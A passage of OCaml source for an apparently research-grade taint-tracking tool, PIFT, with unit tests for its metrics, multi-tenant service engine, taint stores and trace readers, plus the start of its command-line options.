     # HELP app_sizes payload sizes\n\
     # TYPE app_sizes histogram\n\
     app_sizes_bucket{le=\"1\"} 1\n\
     app_sizes_bucket{le=\"7\"} 2\n\
     app_sizes_bucket{le=\"+Inf\"} 2\n\
     app_sizes_sum 6\n\
     app_sizes_count 2\n\
     # HELP app_ops_total per pid\n\
     # TYPE app_ops_total counter\n\
     app_ops_total{pid=\"1\"} 2\n\
     app_ops_total{pid=\"2\"} 1\n"
    rendered

let test_prometheus_label_escaping () =
  (* Exactly backslash, double quote, and newline are escaped; tabs and
     other bytes pass through raw.  %S-style OCaml escaping would mangle
     the tab into \t, which Prometheus parsers reject. *)
  let reg = Registry.create () in
  let per = Registry.counter_family reg ~label:"kind" "esc_total" in
  Metric.Counter.incr (per "back\\slash");
  Metric.Counter.incr (per "quo\"te");
  Metric.Counter.incr (per "new\nline");
  Metric.Counter.incr (per "tab\there");
  let rendered =
    Format.asprintf "%a"
      (fun ppf () -> Sink.prometheus (Registry.snapshot reg) ppf ())
      ()
  in
  let contains needle =
    let n = String.length needle and h = String.length rendered in
    let rec go i =
      i + n <= h && (String.sub rendered i n = needle || go (i + 1))
    in
    go 0
  in
  checkb "backslash doubled" true
    (contains "esc_total{kind=\"back\\\\slash\"} 1");
  checkb "quote escaped" true (contains "esc_total{kind=\"quo\\\"te\"} 1");
  checkb "newline escaped" true (contains "esc_total{kind=\"new\\nline\"} 1");
  checkb "tab passes through raw" true
    (contains "esc_total{kind=\"tab\there\"} 1")

(* --- registry merge edge cases ------------------------------------------- *)

let test_merge_empty_sides () =
  (* empty source into a populated target: nothing moves *)
  let into = golden_registry () in
  let before = Registry.snapshot into in
  Registry.merge ~into (Registry.create ());
  checkb "empty source is identity" true (Registry.snapshot into = before);
  (* populated source into an empty target: everything lands, in the
     source's registration order *)
  let into = Registry.create () in
  Registry.merge ~into (golden_registry ());
  checkb "empty target adopts the source" true
    (Registry.snapshot into = Registry.snapshot (golden_registry ()))

let test_merge_histogram_boundaries () =
  (* values straddling a power-of-two bucket edge must merge bucket by
     bucket, not by re-bucketing the sum *)
  let mk vs =
    let reg = Registry.create () in
    let h = Registry.histogram reg "m_sizes" in
    List.iter (Metric.Histogram.observe h) vs;
    reg
  in
  let into = mk [ 7; 8 ] in
  (* upper edge of bucket 3, lower edge of bucket 4 *)
  Registry.merge ~into (mk [ 1; 7; 16 ]);
  match Registry.snapshot into with
  | [
   {
     Registry.s_points =
       [ ([], Registry.P_histogram { count; sum; vmax; buckets }) ];
     _;
   };
  ] ->
      checki "counts add" 5 count;
      checki "sums add" 39 sum;
      checki "max of maxes" 16 vmax;
      Alcotest.(check (list (pair int int)))
        "buckets add cell-wise"
        [ (1, 1); (7, 2); (15, 1); (31, 1) ]
        buckets
  | _ -> Alcotest.fail "unexpected snapshot shape"

let test_merge_four_domain_gauge_max () =
  (* the sweep merges one registry per worker slot; a high-water gauge
     must surface the global maximum whichever slot saw it *)
  let slot v peak =
    let reg = Registry.create () in
    let g = Registry.gauge reg "m_bytes" in
    Metric.Gauge.set g peak;
    Metric.Gauge.set g v;
    reg
  in
  let into = slot 3 5 in
  List.iter (Registry.merge ~into) [ slot 2 9; slot 4 4; slot 1 7 ];
  match Registry.snapshot into with
  | [ { Registry.s_points = [ ([], Registry.P_gauge { value; peak }) ]; _ } ]
    ->
      Alcotest.(check (float 1e-9)) "value is the slot max" 4. value;
      Alcotest.(check (float 1e-9)) "peak is the global high-water" 9. peak
  | _ -> Alcotest.fail "unexpected snapshot shape"

(* --- instrumentation must not perturb results ---------------------------- *)

let test_metrics_do_not_change_stats () =
  let app = Option.get (Pift_workloads.Droidbench.find "StringConcat1") in
  let recorded = Recorded.record app in
  let plain = Recorded.replay ~policy:Policy.default recorded in
  let registry = Registry.create () in
  let metered =
    Recorded.replay ~metrics:registry ~policy:Policy.default recorded
  in
  checkb "stats identical" true
    (plain.Recorded.stats = metered.Recorded.stats);
  checkb "verdicts identical" true
    (plain.Recorded.verdicts = metered.Recorded.verdicts);
  (* and the registry agrees with the stats record *)
  let s = metered.Recorded.stats in
  let metric name = Option.get (Registry.find_counter registry name) in
  checki "taint ops" s.Tracker.taint_ops
    (metric "pift_tracker_taint_ops_total");
  checki "untaint ops" s.Tracker.untaint_ops
    (metric "pift_tracker_untaint_ops_total");
  checki "lookups" s.Tracker.lookups (metric "pift_tracker_lookups_total")

let () =
  Alcotest.run "pift_obs"
    [
      ( "registry",
        [
          Alcotest.test_case "round trip" `Quick test_registry_round_trip;
          Alcotest.test_case "histogram buckets" `Quick test_histogram_buckets;
        ] );
      ("span", [ Alcotest.test_case "nesting" `Quick test_span_nesting ]);
      ( "sink",
        [
          Alcotest.test_case "jsonl golden" `Quick test_jsonl_golden;
          Alcotest.test_case "prometheus golden" `Quick test_prometheus_golden;
          Alcotest.test_case "prometheus label escaping" `Quick
            test_prometheus_label_escaping;
        ] );
      ( "merge",
        [
          Alcotest.test_case "empty sides" `Quick test_merge_empty_sides;
          Alcotest.test_case "histogram bucket boundaries" `Quick
            test_merge_histogram_boundaries;
          Alcotest.test_case "four-domain gauge max" `Quick
            test_merge_four_domain_gauge_max;
        ] );
      ( "replay",
        [
          Alcotest.test_case "stats unchanged under metrics" `Quick
            test_metrics_do_not_change_stats;
        ] );
    ]
