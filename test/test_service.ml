(* Tests for Pift_service: the Spsc queue contract, the engine's
   determinism claim (interleaved multi-tenant ingestion at every shard
   count is byte-identical to isolated replays — verdicts, origin sets,
   and stats), tenant eviction releasing all state, the backpressure
   policies, streaming trace readers, the per-pid provenance index, and
   Pool.run_job.  PIFT_TEST_JOBS is not used here: shard counts are the
   parameter under test and are fixed per case. *)

module Range = Pift_util.Range
module Policy = Pift_core.Policy
module Store = Pift_core.Store
module Storage = Pift_core.Storage
module Tracker = Pift_core.Tracker
module Provenance = Pift_core.Provenance
module Registry = Pift_obs.Registry
module Pool = Pift_par.Pool
module Droidbench = Pift_workloads.Droidbench
module Recorded = Pift_eval.Recorded
module Trace_io = Pift_eval.Trace_io
module Spsc = Pift_service.Spsc
module Engine = Pift_service.Engine
module Ingest = Pift_service.Ingest
module Admin = Pift_service.Admin

let checkb = Alcotest.(check bool)
let checki = Alcotest.(check int)
let checks = Alcotest.(check string)

let app name =
  match Droidbench.find name with
  | Some a -> a
  | None -> Alcotest.failf "unknown app %s" name

(* Recordings shared across cases (recording is the slow part). *)
let recordings =
  lazy
    (List.map
       (fun n -> Recorded.record (app n))
       [ "StringConcat1"; "DirectLeak1"; "LogLeak1"; "Obfuscation1" ])

(* --- Spsc ---------------------------------------------------------------- *)

let test_spsc_fifo () =
  let q = Spsc.create ~capacity:4 () in
  for i = 0 to 3 do
    match Spsc.push q ~drop_when_full:false [| i; i + 10 |] with
    | Spsc.Pushed -> ()
    | Spsc.Dropped -> Alcotest.fail "push dropped below capacity"
  done;
  checki "depth" 4 (Spsc.length q);
  checki "max depth" 4 (Spsc.max_depth q);
  Spsc.close q;
  let drained = ref [] in
  let rec drain () =
    match Spsc.pop q with
    | Some b ->
        drained := !drained @ Array.to_list b;
        drain ()
    | None -> ()
  in
  drain ();
  checkb "fifo order" true
    (!drained = [ 0; 10; 1; 11; 2; 12; 3; 13 ]);
  checkb "pop after drain stays None" true (Spsc.pop q = None)

let test_spsc_drop_when_full () =
  let q = Spsc.create ~capacity:1 () in
  checkb "first push fits" true
    (Spsc.push q ~drop_when_full:true [| 1 |] = Spsc.Pushed);
  checkb "second push drops" true
    (Spsc.push q ~drop_when_full:true [| 2; 3 |] = Spsc.Dropped);
  checki "dropped counts items" 2 (Spsc.dropped q);
  (* the queued batch is still intact *)
  checkb "survivor delivered" true (Spsc.pop q = Some [| 1 |])

let test_spsc_abort () =
  let q = Spsc.create ~capacity:1 () in
  ignore (Spsc.push q ~drop_when_full:false [| 1 |]);
  Spsc.abort q;
  (* a blocked producer would have been woken; pushes now drop *)
  checkb "push after abort drops" true
    (Spsc.push q ~drop_when_full:false [| 2 |] = Spsc.Dropped);
  checkb "pop after abort is None" true (Spsc.pop q = None);
  checki "aborted pushes counted" 1 (Spsc.dropped q)

let test_spsc_close_rejects_push () =
  let q = Spsc.create ~capacity:1 () in
  Spsc.close q;
  checkb "push after close raises" true
    (try
       ignore (Spsc.push q ~drop_when_full:false [| 1 |]);
       false
     with Invalid_argument _ -> true)

(* --- Pool.run_job --------------------------------------------------------- *)

let test_run_job_every_worker_once () =
  List.iter
    (fun jobs ->
      Pool.with_pool ~jobs (fun p ->
          let hits = Array.make jobs 0 in
          Pool.run_job p (fun ~worker ->
              hits.(worker) <- hits.(worker) + 1);
          Array.iteri
            (fun w h -> checki (Printf.sprintf "jobs=%d slot %d" jobs w) 1 h)
            hits;
          (* the pool is reusable for a second job *)
          Pool.run_job p (fun ~worker ->
              hits.(worker) <- hits.(worker) + 10);
          Array.iteri
            (fun w h -> checki (Printf.sprintf "second job slot %d" w) 11 h)
            hits))
    [ 1; 2; 4 ]

exception Job_boom

let test_run_job_exception_propagates () =
  Pool.with_pool ~jobs:2 (fun p ->
      checkb "raises" true
        (try
           Pool.run_job p (fun ~worker -> if worker = 1 then raise Job_boom);
           false
         with Job_boom -> true);
      (* the pool survives a failed job *)
      let ok = ref false in
      Pool.run_job p (fun ~worker -> if worker = 0 then ok := true);
      checkb "pool alive after failure" true !ok)

(* --- differential: interleaved engine = isolated replays ----------------- *)

let norm_verdicts (rp : Recorded.replay) ~with_origins =
  if with_origins then
    List.map
      (fun (ov : Recorded.origin_verdict) ->
        (ov.Recorded.ov_kind, ov.Recorded.ov_flagged, ov.Recorded.ov_origins))
      rp.Recorded.origins
  else
    List.map
      (fun (v : Recorded.verdict) -> (v.Recorded.kind, v.Recorded.flagged, []))
      rp.Recorded.verdicts

let engine_verdicts (ts : Admin.tenant_snapshot) ~with_origins =
  List.map
    (fun (v : Admin.verdict) ->
      ( v.Admin.v_kind,
        v.Admin.v_flagged,
        if with_origins then v.Admin.v_origins else [] ))
    ts.Admin.ts_verdicts

let stats_equal (a : Tracker.stats) (b : Tracker.stats) =
  a.Tracker.taint_ops = b.Tracker.taint_ops
  && a.Tracker.untaint_ops = b.Tracker.untaint_ops
  && a.Tracker.lookups = b.Tracker.lookups
  && a.Tracker.tainted_loads = b.Tracker.tainted_loads
  && a.Tracker.max_tainted_bytes = b.Tracker.max_tainted_bytes
  && a.Tracker.max_ranges = b.Tracker.max_ranges
  && a.Tracker.events = b.Tracker.events

let run_differential ~shards ~with_origins =
  let recs = Lazy.force recordings in
  let policy = Policy.default in
  let isolated =
    List.map (fun r -> Recorded.replay ~policy ~with_origins r) recs
  in
  Engine.with_engine ~shards ~policy ~with_origins ~queue_capacity:2 ~batch:16
    (fun eng ->
      let sources =
        List.mapi (fun i r -> Ingest.of_recorded ~pid:(Ingest.tenant_pid i) r) recs
      in
      Ingest.run eng sources;
      List.iteri
        (fun i (r, rp) ->
          let pid = Ingest.tenant_pid i in
          match Admin.snapshot_tenant eng ~pid with
          | None -> Alcotest.failf "tenant %d missing" pid
          | Some ts ->
              let label which =
                Printf.sprintf "%s shards=%d tenant=%s" which shards
                  r.Recorded.name
              in
              checks (label "name") r.Recorded.name ts.Admin.ts_name;
              checkb (label "verdicts") true
                (engine_verdicts ts ~with_origins
                = norm_verdicts rp ~with_origins);
              checkb (label "stats") true
                (stats_equal ts.Admin.ts_stats rp.Recorded.stats))
        (List.combine recs isolated);
      (* all shards between 0 and shards-1 got the round-robin tenants *)
      let st = Admin.stats eng in
      checki
        (Printf.sprintf "tenant total shards=%d" shards)
        (List.length recs) st.Admin.st_tenants;
      checki
        (Printf.sprintf "dropped shards=%d" shards)
        0 st.Admin.st_dropped)

let test_differential_shards_1 () = run_differential ~shards:1 ~with_origins:true
let test_differential_shards_2 () = run_differential ~shards:2 ~with_origins:true
let test_differential_shards_4 () = run_differential ~shards:4 ~with_origins:true

let test_differential_no_origins () =
  run_differential ~shards:2 ~with_origins:false

(* Tiny queues + blocking backpressure: nothing may be lost and the
   interleaved result still matches — the producer just waits. *)
let test_blocking_backpressure_lossless () =
  let recs = Lazy.force recordings in
  let policy = Policy.default in
  Engine.with_engine ~shards:2 ~policy ~queue_capacity:1 ~batch:4 (fun eng ->
      let sources =
        List.mapi (fun i r -> Ingest.of_recorded ~pid:(Ingest.tenant_pid i) r) recs
      in
      Ingest.run eng sources;
      let st = Admin.stats eng in
      checki "no drops under blocking policy" 0 st.Admin.st_dropped;
      let total_items =
        List.fold_left
          (fun acc (r : Recorded.t) ->
            acc + Pift_trace.Trace.length r.Recorded.trace
            + Array.length r.Recorded.markers)
          0 recs
      in
      checki "every item processed" total_items st.Admin.st_items)

(* Dropping policy: items are either processed or counted dropped —
   the split is timing-dependent, the sum is not.  The run must
   terminate (a wedged producer would hang the test). *)
let test_drop_policy_accounting () =
  let recs = Lazy.force recordings in
  Engine.with_engine ~shards:2 ~policy:Policy.default ~queue_capacity:1
    ~batch:2 ~drop_when_full:true (fun eng ->
      let sources =
        List.mapi (fun i r -> Ingest.of_recorded ~pid:(Ingest.tenant_pid i) r) recs
      in
      Ingest.run eng sources;
      let st = Admin.stats eng in
      let total_items =
        List.fold_left
          (fun acc (r : Recorded.t) ->
            acc + Pift_trace.Trace.length r.Recorded.trace
            + Array.length r.Recorded.markers)
          0 recs
      in
      checki "processed + dropped = streamed" total_items
        (st.Admin.st_items + st.Admin.st_dropped))

(* --- tenant lifecycle ----------------------------------------------------- *)

let gauge_bytes eng =
  Array.fold_left
    (fun acc reg ->
      match Registry.find_gauge reg "pift_service_tainted_bytes" with
      | Some v -> acc +. v
      | None -> acc)
    0. (Admin.registries eng)

(* Evict one of two tenants mid-stream (in-band I_evict): its store,
   provenance and window state must be released, the occupancy gauge
   must fall back to the surviving tenant's baseline, and a re-ingested
   tenant under the same pid must start clean. *)
let test_evict_mid_stream () =
  let recs = Lazy.force recordings in
  let r0 = List.nth recs 0 and r1 = List.nth recs 1 in
  let policy = Policy.default in
  Engine.with_engine ~shards:2 ~policy ~with_origins:true (fun eng ->
      let pid0 = Ingest.tenant_pid 0 and pid1 = Ingest.tenant_pid 1 in
      let s0 = Ingest.of_recorded ~pid:pid0 r0 in
      let s1 = Ingest.of_recorded ~pid:pid1 r1 in
      (* interleave both tenants fully, then evict tenant 0 in-band *)
      let merged = Ingest.merge [ s0; s1 ] in
      let evicted = ref false in
      let stream () =
        match merged () with
        | Some _ as it -> it
        | None ->
            if !evicted then None
            else begin
              evicted := true;
              Some (Engine.I_evict { pid = pid0 })
            end
      in
      Engine.register_tenant eng ~pid:pid0 ~name:r0.Recorded.name ();
      Engine.register_tenant eng ~pid:pid1 ~name:r1.Recorded.name ();
      Engine.run eng stream;
      checkb "tenant 0 gone" true (Admin.snapshot_tenant eng ~pid:pid0 = None);
      checkb "tenant 1 resident" true
        (Admin.snapshot_tenant eng ~pid:pid1 <> None);
      checki "one eviction" 1 (Admin.stats eng).Admin.st_evictions;
      (* occupancy gauge = surviving tenant's live bytes, exactly *)
      let ts1 = Option.get (Admin.snapshot_tenant eng ~pid:pid1) in
      checki "gauge at survivor baseline" ts1.Admin.ts_tainted_bytes
        (int_of_float (gauge_bytes eng));
      (* the pid starts clean: re-ingesting r0 under pid0 must match a
         fresh isolated replay, untainted by the evicted incarnation *)
      Ingest.run eng [ Ingest.of_recorded ~pid:pid0 r0 ];
      let rp0 = Recorded.replay ~policy ~with_origins:true r0 in
      let ts0 = Option.get (Admin.snapshot_tenant eng ~pid:pid0) in
      checkb "re-registered pid replays clean" true
        (engine_verdicts ts0 ~with_origins:true
        = norm_verdicts rp0 ~with_origins:true);
      checkb "stats clean too" true
        (stats_equal ts0.Admin.ts_stats rp0.Recorded.stats))

let test_admin_out_of_band () =
  Engine.with_engine ~shards:2 ~with_origins:true (fun eng ->
      let pid = Ingest.tenant_pid 3 in
      Admin.register_tenant eng ~pid ~name:"manual" ();
      Admin.register_source eng ~pid ~kind:"IMEI"
        (Range.of_len 100 16);
      let v = Admin.query_sink eng ~pid [ Range.of_len 104 4 ] in
      checkb "sink flagged" true v.Admin.v_flagged;
      checkb "origins" true (v.Admin.v_origins = [ "IMEI" ]);
      (* query_sink is pure: no verdict was logged *)
      let ts = Option.get (Admin.snapshot_tenant eng ~pid) in
      checks "name" "manual" ts.Admin.ts_name;
      checki "no logged verdicts" 0 (List.length ts.Admin.ts_verdicts);
      checki "live bytes" 16 ts.Admin.ts_tainted_bytes;
      Admin.untaint_range eng ~pid (Range.of_len 100 16);
      let v2 = Admin.query_sink eng ~pid [ Range.of_len 104 4 ] in
      checkb "clean after untaint" false v2.Admin.v_flagged;
      checkb "evict reports residency" true (Admin.evict_tenant eng ~pid);
      checkb "second evict is false" false (Admin.evict_tenant eng ~pid))

(* --- release_pid through the stack ---------------------------------------- *)

let test_store_release_pid () =
  let s = Store.create () in
  s.Store.add ~pid:1 (Range.of_len 0 10);
  s.Store.add ~pid:2 (Range.of_len 50 6);
  checki "bytes before" 16 (s.Store.tainted_bytes ());
  s.Store.release_pid ~pid:1;
  checki "bytes after" 6 (s.Store.tainted_bytes ());
  checki "ranges after" 1 (s.Store.range_count ());
  checkb "pid 1 empty" false (s.Store.overlaps ~pid:1 (Range.of_len 0 10));
  checkb "pid 2 intact" true (s.Store.overlaps ~pid:2 (Range.of_len 52 1));
  (* releasing an unknown pid is a no-op *)
  s.Store.release_pid ~pid:99;
  checki "no-op release" 6 (s.Store.tainted_bytes ())

let test_storage_release_pid () =
  let st = Storage.create ~entries:8 () in
  Storage.insert st ~pid:1 (Range.of_len 0 4);
  Storage.insert st ~pid:2 (Range.of_len 100 4);
  let occ_before = Storage.occupancy st in
  Storage.release_pid st ~pid:1;
  checki "occupancy drops" (occ_before - 1) (Storage.occupancy st);
  checkb "pid 1 gone" false (Storage.lookup st ~pid:1 (Range.of_len 0 4));
  checkb "pid 2 intact" true
    (Storage.lookup st ~pid:2 (Range.of_len 100 4))

let test_tracker_release_pid () =
  let prov = Provenance.create () in
  let tracker = Tracker.create ~prov () in
  Tracker.taint_source ~kind:"IMEI" tracker ~pid:7 (Range.of_len 0 8);
  Tracker.taint_source ~kind:"GPS" tracker ~pid:8 (Range.of_len 64 4);
  checki "live bytes" 12 (Tracker.current_tainted_bytes tracker);
  Tracker.release_pid tracker ~pid:7;
  checki "bytes after release" 4 (Tracker.current_tainted_bytes tracker);
  checki "ranges after release" 1 (Tracker.current_ranges tracker);
  checkb "origins gone" true (Tracker.origins_of tracker ~pid:7 (Range.of_len 0 8) = []);
  checkb "other pid keeps origins" true
    (Tracker.origins_of tracker ~pid:8 (Range.of_len 64 4) = [ "GPS" ]);
  (* peaks are high-water marks and survive the release *)
  checki "peak bytes" 12 (Tracker.stats tracker).Tracker.max_tainted_bytes

(* --- provenance per-pid index (satellite: no cross-pid scans) ------------- *)

let test_provenance_scans_stay_per_pid () =
  let p = Provenance.create () in
  (* 1000 cold pids, one label each *)
  for pid = 1 to 1000 do
    Provenance.taint_source p ~pid ~label:(Printf.sprintf "src%d" (pid mod 7))
      (Range.of_len (pid * 64) 16)
  done;
  let before = Provenance.probes p in
  (* scan-path ops on ONE pid must probe only that pid's label sets
     (1 label here), not all 1000 pids' *)
  Provenance.untaint_range p ~pid:500 (Range.of_len (500 * 64) 16);
  let after_untaint = Provenance.probes p in
  checkb
    (Printf.sprintf "untaint probes once, got %d" (after_untaint - before))
    true
    (after_untaint - before <= 1);
  ignore (Provenance.labels_of p ~pid:501 (Range.of_len (501 * 64) 4));
  let after_hit = Provenance.probes p in
  checkb
    (Printf.sprintf "hit_labels probes once, got %d" (after_hit - after_untaint))
    true
    (after_hit - after_untaint <= 1)

let test_provenance_release_pid () =
  let p = Provenance.create () in
  Provenance.taint_source p ~pid:1 ~label:"a" (Range.of_len 0 8);
  Provenance.taint_source p ~pid:2 ~label:"b" (Range.of_len 0 8);
  Provenance.release_pid p ~pid:1;
  checkb "pid 1 labels gone" true
    (Provenance.labels_of p ~pid:1 (Range.of_len 0 8) = []);
  checkb "pid 2 intact" true
    (Provenance.labels_of p ~pid:2 (Range.of_len 0 8) = [ "b" ]);
  checki "pid 1 bytes" 0 (Provenance.tainted_bytes p ~label:"a")

(* --- streaming trace readers (satellite) ----------------------------------- *)

let with_tmp ~suffix f =
  let path = Filename.temp_file "pift_service_test" suffix in
  Fun.protect ~finally:(fun () -> Sys.remove path) (fun () -> f path)

let drain_reader path =
  Trace_io.with_reader path (fun r ->
      let items = ref [] in
      let rec go () =
        match Trace_io.read_item r with
        | Some it ->
            items := it :: !items;
            go ()
        | None -> ()
      in
      go ();
      (Trace_io.reader_header r, List.rev !items))

let items_of_recording r =
  let next = Recorded.items r in
  let acc = ref [] in
  let rec go () =
    match next () with
    | Some it ->
        acc := it :: !acc;
        go ()
    | None -> ()
  in
  go ();
  List.rev !acc

let test_reader_matches_load () =
  let r = List.hd (Lazy.force recordings) in
  List.iter
    (fun format ->
      with_tmp ~suffix:".pift" (fun path ->
          Trace_io.save ~format r path;
          let h, streamed = drain_reader path in
          checks "header name" r.Recorded.name h.Trace_io.h_name;
          checki "header pid" r.Recorded.pid h.Trace_io.h_pid;
          let loaded = Trace_io.load path in
          checkb
            (Printf.sprintf "streamed = loaded items (%s)"
               (Trace_io.format_to_string format))
            true
            (streamed = items_of_recording loaded)))
    [ Trace_io.Text; Trace_io.Binary ]

let test_truncated_binary_positioned_error () =
  let r = List.hd (Lazy.force recordings) in
  with_tmp ~suffix:".pift" (fun path ->
      Trace_io.save ~format:Trace_io.Binary r path;
      let full = In_channel.with_open_bin path In_channel.input_all in
      with_tmp ~suffix:".pift" (fun cut_path ->
          (* cut mid-stream: deep enough to leave the header and many
             records intact, shallow enough to chop a record *)
          let cut = String.length full * 2 / 3 in
          Out_channel.with_open_bin cut_path (fun oc ->
              Out_channel.output_string oc (String.sub full 0 cut));
          Trace_io.with_reader cut_path (fun rd ->
              let n = ref 0 in
              let msg =
                try
                  let rec go () =
                    match Trace_io.read_item rd with
                    | Some _ ->
                        incr n;
                        go ()
                    | None -> None
                  in
                  go ()
                with Failure m -> Some m
              in
              match msg with
              | None -> Alcotest.fail "truncated file read to EOF cleanly"
              | Some m ->
                  checkb "items delivered before the cut" true (!n > 0);
                  (* the error names the failing record, one past the
                     items already delivered *)
                  let expected =
                    Printf.sprintf "Trace_io: record %d" (!n + 1)
                  in
                  checkb
                    (Printf.sprintf "positioned error %S mentions %S" m
                       expected)
                    true
                    (String.length m >= String.length expected
                    && String.sub m 0 (String.length expected) = expected))))

let () =
  Alcotest.run "pift service"
    [
      ( "spsc",
        [
          Alcotest.test_case "fifo and close" `Quick test_spsc_fifo;
          Alcotest.test_case "drop when full" `Quick test_spsc_drop_when_full;
          Alcotest.test_case "abort" `Quick test_spsc_abort;
          Alcotest.test_case "push after close" `Quick
            test_spsc_close_rejects_push;
        ] );
      ( "pool run_job",
        [
          Alcotest.test_case "every worker once" `Quick
            test_run_job_every_worker_once;
          Alcotest.test_case "exception propagates" `Quick
            test_run_job_exception_propagates;
        ] );
      ( "engine determinism",
        [
          Alcotest.test_case "interleaved = isolated, 1 shard" `Quick
            test_differential_shards_1;
          Alcotest.test_case "interleaved = isolated, 2 shards" `Quick
            test_differential_shards_2;
          Alcotest.test_case "interleaved = isolated, 4 shards" `Quick
            test_differential_shards_4;
          Alcotest.test_case "without origins" `Quick
            test_differential_no_origins;
          Alcotest.test_case "blocking backpressure is lossless" `Quick
            test_blocking_backpressure_lossless;
          Alcotest.test_case "drop policy accounting" `Quick
            test_drop_policy_accounting;
        ] );
      ( "tenant lifecycle",
        [
          Alcotest.test_case "evict mid-stream" `Quick test_evict_mid_stream;
          Alcotest.test_case "admin out-of-band ops" `Quick
            test_admin_out_of_band;
        ] );
      ( "release_pid",
        [
          Alcotest.test_case "store" `Quick test_store_release_pid;
          Alcotest.test_case "storage" `Quick test_storage_release_pid;
          Alcotest.test_case "tracker" `Quick test_tracker_release_pid;
        ] );
      ( "provenance index",
        [
          Alcotest.test_case "scans stay per-pid (1k cold pids)" `Quick
            test_provenance_scans_stay_per_pid;
          Alcotest.test_case "release_pid" `Quick test_provenance_release_pid;
        ] );
      ( "streaming readers",
        [
          Alcotest.test_case "reader = load, both formats" `Quick
            test_reader_matches_load;
          Alcotest.test_case "truncated binary positioned error" `Quick
            test_truncated_binary_positioned_error;
        ] );
    ]
