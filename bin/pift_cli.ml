(* pift — command-line front end: run apps under the tracker, sweep
   parameters, and regenerate the paper's experiments. *)

open Cmdliner

module Policy = Pift_core.Policy
module Tracker = Pift_core.Tracker
module Recorded = Pift_eval.Recorded
module App = Pift_workloads.App

let all_apps () =
  Pift_workloads.Droidbench.all @ Pift_workloads.Malware.all
  @ Pift_workloads.Extended.all @ Pift_workloads.Evasion.all
  @ [ Pift_workloads.Browser.app ]

let find_app name =
  match
    List.find_opt
      (fun (a : App.t) -> String.equal a.App.name name)
      (all_apps ())
  with
  | Some a -> a
  | None ->
      Printf.eprintf "unknown app %S (try `pift list-apps`)\n" name;
      exit 2

(* --- common options --- *)

let ni =
  let doc = "Tainting-window size NI (instructions)." in
  Arg.(value & opt int 13 & info [ "ni" ] ~docv:"NI" ~doc)

let nt =
  let doc = "Maximum propagations per window NT." in
  Arg.(value & opt int 3 & info [ "nt" ] ~docv:"NT" ~doc)

let untaint =
  let doc = "Enable untainting of stores outside windows." in
  Arg.(value & opt bool true & info [ "untaint" ] ~docv:"BOOL" ~doc)

let policy_of ni nt untaint = Policy.make ~untaint ~ni ~nt ()

let jit =
  let doc = "Execute under the JIT/AOT translation (no fetch/dispatch)." in
  Arg.(value & flag & info [ "jit" ] ~doc)

let jobs =
  let doc =
    "Worker domains for the parallel replay pool (default: the machine's \
     domain count).  Output is byte-identical for every job count."
  in
  Arg.(
    value
    & opt int (Pift_par.Pool.default_jobs ())
    & info [ "j"; "jobs" ] ~docv:"N" ~doc)

let mode_of jit = if jit then Pift_dalvik.Vm.Jit else Pift_dalvik.Vm.Interpreter

let store_backend =
  let backend =
    Arg.enum
      [
        ("functional", Pift_core.Store.Functional);
        ("flat", Pift_core.Store.Flat);
        ("hybrid", Pift_core.Store.Hybrid);
      ]
  in
  let doc =
    "Taint-store backend: $(b,functional) (persistent range set), \
     $(b,flat) (imperative sorted interval array), or $(b,hybrid) \
     (flat intervals with dense regions promoted to bit-pages).  The \
     backends are semantically identical — output is byte-identical \
     whichever one runs — so this is purely a performance knob."
  in
  Arg.(
    value
    & opt backend Pift_core.Store.Functional
    & info [ "store" ] ~docv:"BACKEND" ~doc)

(* --- metrics options --- *)

module Obs = Pift_obs

type metrics_format = Jsonl | Prom | Text

let metrics_out =
  let doc =
    "Write a metrics snapshot of the run to $(docv) ($(b,-) for stdout)."
  in
  Arg.(
    value
    & opt (some string) None
    & info [ "metrics-out" ] ~docv:"FILE" ~doc)

let metrics_format =
  let fmt =
    Arg.enum [ ("jsonl", Jsonl); ("prom", Prom); ("text", Text) ]
  in
  let doc =
    "Snapshot format: $(b,jsonl) (one JSON object per line, readable by \
     $(b,pift report)), $(b,prom) (Prometheus text exposition), or \
     $(b,text) (human summary)."
  in
  Arg.(value & opt fmt Jsonl & info [ "metrics-format" ] ~docv:"FORMAT" ~doc)

(* Fresh registry when --metrics-out was given; [None] leaves every
   instrumented hot path on its no-op branch. *)
let registry_of metrics_out =
  match metrics_out with
  | None -> None
  | Some _ ->
      Obs.Span.reset ();
      Some (Obs.Registry.create ())

(* --- flight-recorder options --- *)

let trace_out =
  let doc =
    "Write a Chrome trace-event / Perfetto JSON timeline of the run to \
     $(docv) (load it at ui.perfetto.dev).  One track per worker slot.  \
     Tracing never touches stdout: the run's output is byte-identical \
     with or without it."
  in
  Arg.(value & opt (some string) None & info [ "trace-out" ] ~docv:"FILE" ~doc)

(* One ring per worker slot when --trace-out was given; [||] keeps every
   recording call on its no-op branch. *)
let rings_of trace_out ~slots =
  match trace_out with
  | None -> [||]
  | Some _ -> Array.init (max 1 slots) (fun _ -> Obs.Flight.create ())

let write_trace ~out ~run rings =
  if Array.length rings > 0 then begin
    let timeline = Obs.Timeline.of_rings rings in
    let oc = open_out out in
    Fun.protect
      ~finally:(fun () -> close_out oc)
      (fun () -> Obs.Chrome.write oc ~run timeline);
    (* stderr, not stdout: traced and untraced runs must keep
       byte-identical standard output. *)
    Printf.eprintf "trace: wrote %s (%d events across %d tracks%s)\n" out
      (Obs.Timeline.event_count timeline)
      (Array.length rings)
      (let d = Obs.Timeline.dropped timeline in
       if d > 0 then Printf.sprintf ", %d dropped to wrap-around" d else "")
  end

(* --- telemetry / profiler / live-view options --- *)

let telemetry_out =
  let doc =
    "Append continuous-telemetry snapshots to $(docv) (JSONL, readable by \
     $(b,pift report)): a bounded ring of periodic readings — tainted \
     bytes, range count, window occupancy, store state — taken every \
     $(b,--telemetry-every) events.  Telemetry never touches stdout: \
     output is byte-identical with or without it."
  in
  Arg.(
    value
    & opt (some string) None
    & info [ "telemetry-out" ] ~docv:"FILE" ~doc)

let telemetry_every =
  let doc =
    "Events between telemetry snapshots ($(b,0) disables the event \
     trigger)."
  in
  Arg.(
    value
    & opt int Obs.Telemetry.default_every
    & info [ "telemetry-every" ] ~docv:"N" ~doc)

let telemetry_interval =
  let doc =
    "Seconds between wall-clock telemetry snapshots ($(b,0) = event \
     cadence only)."
  in
  Arg.(
    value & opt float 0. & info [ "telemetry-interval" ] ~docv:"SEC" ~doc)

let profile_out =
  let doc =
    "Write an overhead-attribution profile to $(docv): folded stacks \
     (self time per $(b,pool;replay;tracker;store)-style region path, \
     flamegraph.pl/speedscope-compatible), summarized per subsystem by \
     $(b,pift report).  Never touches stdout."
  in
  Arg.(
    value & opt (some string) None & info [ "profile-out" ] ~docv:"FILE" ~doc)

let top_flag =
